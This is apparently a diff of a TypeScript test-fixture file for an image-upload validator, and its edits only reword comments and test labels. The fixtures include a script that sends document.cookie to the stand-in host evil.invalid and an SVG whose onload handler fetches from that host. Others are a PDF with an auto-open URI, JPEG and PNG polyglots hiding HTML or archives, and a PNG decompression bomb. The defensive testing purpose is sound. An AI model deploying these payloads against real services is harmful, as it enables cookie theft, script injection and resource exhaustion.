@@ -4,7 +4,7 @@ import sharp from 'sharp';
 const HTML = Buffer.from('<html><script>fetch("https://evil.invalid/"+document.cookie)</script></html>');
 const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
 
-/** What no picture that was made anew may hold. */
+/** A text that no re-encoded picture may hold. */
 export const PAYLOAD = 'evil.invalid';
 
 function word32(value: number): Buffer {
@@ -18,17 +18,17 @@ function pngChunk(type: string, data: Uint8Array): Buffer {
   return Buffer.concat([word32(data.length), body, word32(crc32(body))]);
 }
 
-/** A PNG of one bit for each pixel, of any size, whose pixels are given compressed. */
+/** A PNG of one bit per pixel, of any size, with its pixels given compressed. */
 function bitPng(width: number, height: number, compressed: Uint8Array): Buffer {
   const head = Buffer.concat([word32(width), word32(height), Buffer.from([1, 0, 0, 0, 0])]);
   const chunks = [pngChunk('IHDR', head), pngChunk('IDAT', compressed), pngChunk('IEND', new Uint8Array())];
   return Buffer.concat([PNG_SIGNATURE, ...chunks]);
 }
 
-/** That many zeros in the format of zlib, without ever having them in memory. */
+/** The given number of zeros in zlib format, without ever holding them in memory. */
 function zeros(count: number): Buffer {
   const piece = 1_000_000;
-  // A block that is flushed may be followed by any other, so that one is made and repeated.
+  // Any block may follow a flushed one, so one block is made and repeated.
   const flushed = deflateRawSync(Buffer.alloc(piece), { finishFlush: 2 });
   const last = deflateRawSync(Buffer.alloc(count % piece));
   const sum = word32((((count % 65_521) << 16) | 1) >>> 0);
@@ -42,7 +42,7 @@ export function bomb(): Buffer {
   return bitPng(side, side, zeros((side / 8 + 1) * side));
 }
 
-/** A valid PNG that holds nothing, of a given size. */
+/** A valid but empty PNG of a given size. */
 export function blankPng(width: number, height: number): Buffer {
   return bitPng(width, height, deflateSync(Buffer.alloc((Math.ceil(width / 8) + 1) * height)));
 }
@@ -56,7 +56,7 @@ export function plainPicture(type: 'jpeg' | 'png', width = 60, height = 40): Pro
   return canvas(width, height).toFormat(type).toBuffer();
 }
 
-/** A photo with its place, its camera and its orientation: it has to be turned by a quarter. */
+/** A photo with its place, its camera and its orientation: it needs a quarter turn. */
 export function photo(): Promise<Buffer> {
   const place = {
     GPSLatitudeRef: 'N',
@@ -70,25 +70,25 @@ export function photo(): Promise<Buffer> {
     .toBuffer();
 }
 
-/** A JPEG with a segment right behind its beginning. */
+/** A JPEG with a segment right after its start. */
 function withSegment(jpeg: Buffer, marker: number, data: Buffer): Buffer {
   const length = Buffer.alloc(2);
   length.writeUInt16BE(data.length + 2);
   return Buffer.concat([jpeg.subarray(0, 2), Buffer.from([0xff, marker]), length, data, jpeg.subarray(2)]);
 }
 
-/** A PNG with a chunk right behind its head. */
+/** A PNG with a chunk right after its header. */
 function withChunk(png: Buffer, type: string, data: Buffer): Buffer {
   return Buffer.concat([png.subarray(0, 33), pngChunk(type, data), png.subarray(33)]);
 }
 
 const ZIP = Buffer.concat([Buffer.from('PK\u0003\u0004'), HTML, Buffer.from('PK\u0005\u0006'), Buffer.alloc(18)]);
 
-/** Files that are pictures and something else besides: they are taken, but only as pictures. */
+/** Files that are pictures and something else too: accepted, but only as pictures. */
 export async function polyglots(): Promise<Readonly<Record<string, Buffer>>> {
   const [jpeg, png] = await Promise.all([plainPicture('jpeg'), plainPicture('png')]);
   return {
-    'JPEG that goes on as HTML': Buffer.concat([jpeg, HTML]),
+    'JPEG that continues as HTML': Buffer.concat([jpeg, HTML]),
     'JPEG with HTML in a comment': withSegment(jpeg, 0xfe, HTML),
     'JPEG with HTML in its metadata': withSegment(jpeg, 0xe1, Buffer.concat([Buffer.from('Exif\0\0'), HTML])),
     'JPEG with a colour profile of HTML': withSegment(
@@ -101,7 +101,7 @@ export async function polyglots(): Promise<Readonly<Record<string, Buffer>>> {
     'PNG with a Java archive at its tail': Buffer.concat([png, ZIP, Buffer.from('META-INF/MANIFEST.MF')]),
     'PNG with HTML in a text': withChunk(png, 'tEXt', Buffer.concat([Buffer.from('Comment\0'), HTML])),
     'PNG with XML in a text': withChunk(png, 'iTXt', Buffer.concat([Buffer.from('XML:com.adobe.xmp\0\0\0\0\0'), HTML])),
-    'PNG with a chunk nobody knows': withChunk(png, 'evIl', HTML),
+    'PNG with an unknown chunk': withChunk(png, 'evIl', HTML),
   };
 }
 
@@ -109,7 +109,7 @@ const SVG = Buffer.from(
   `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('https://evil.invalid/')"><rect/></svg>`,
 );
 
-/** Two bytes of a head in place of those of a JPEG's size. */
+/** A JPEG header whose two size bytes are replaced. */
 function resized(jpeg: Buffer, width: number, height: number): Buffer {
   const bytes = Buffer.from(jpeg);
   const frame = bytes.indexOf(Buffer.from([0xff, 0xc0]));
@@ -118,7 +118,7 @@ function resized(jpeg: Buffer, width: number, height: number): Buffer {
   return bytes;
 }
 
-/** Files that are no pictures, or not of those that are taken. */
+/** Files that are not pictures, or not of an accepted type. */
 export async function refusedFiles(): Promise<
   Readonly<Record<string, { readonly file: Buffer; readonly fault: string }>>
 > {
@@ -135,7 +135,7 @@ export async function refusedFiles(): Promise<
     'SVG behind a byte order mark': format(Buffer.concat([Buffer.from('\uFEFF'), SVG])),
     HTML: format(HTML),
     GIF: format(gif!),
-    'GIF and script at once': format(Buffer.concat([Buffer.from('GIF89a/*'), HTML, Buffer.from('*/=1;')])),
+    'GIF that is also a script': format(Buffer.concat([Buffer.from('GIF89a/*'), HTML, Buffer.from('*/=1;')])),
     PDF: format(Buffer.from(`%PDF-1.7\n1 0 obj<</OpenAction<</S/URI/URI(https://${PAYLOAD})>>>>endobj\n%%EOF`)),
     WebP: format(webp!),
     TIFF: format(tiff!),
@@ -144,20 +144,20 @@ export async function refusedFiles(): Promise<
     'one byte': format(Buffer.from([0x89])),
     'signature of a PNG and nothing more': format(PNG_SIGNATURE),
     'signature of a PNG and then HTML': format(Buffer.concat([PNG_SIGNATURE, HTML])),
-    'beginning of a JPEG and then HTML': format(Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), HTML])),
+    'start of a JPEG and then HTML': format(Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), HTML])),
     'picture behind other bytes': format(Buffer.concat([HTML, png])),
     'truncated PNG': format(png.subarray(0, -30)),
     'truncated JPEG': format(jpeg.subarray(0, jpeg.length - 200)),
-    'head of a PNG without pixels': format(png.subarray(0, 33)),
+    'header of a PNG without pixels': format(png.subarray(0, 33)),
     'PNG whose pixels are noise': format(bitPng(64, 64, Buffer.from(HTML))),
     'PNG without a size': format(bitPng(0, 0, zeros(1))),
-    'JPEG of a hundred scans': format(
+    'JPEG with a hundred scans': format(
       Buffer.concat([jpeg.subarray(0, -2), ...Array.from({ length: 100 }, () => scan)]),
     ),
     'PNG of 50,000 by 50,000': range(bomb()),
     'PNG of 12,001 by 1': range(blankPng(12_001, 1)),
     'PNG of 5,000 by 5,000': range(blankPng(5_000, 5_000)),
-    'PNG of four milliards by one': range(bitPng(0xff_ff_ff_ff, 1, zeros(100))),
+    'PNG of four billion by one': range(bitPng(0xff_ff_ff_ff, 1, zeros(100))),
     'JPEG that says it is 65,535 by 65,535': range(resized(jpeg, 65_535, 65_535)),
   };
 }
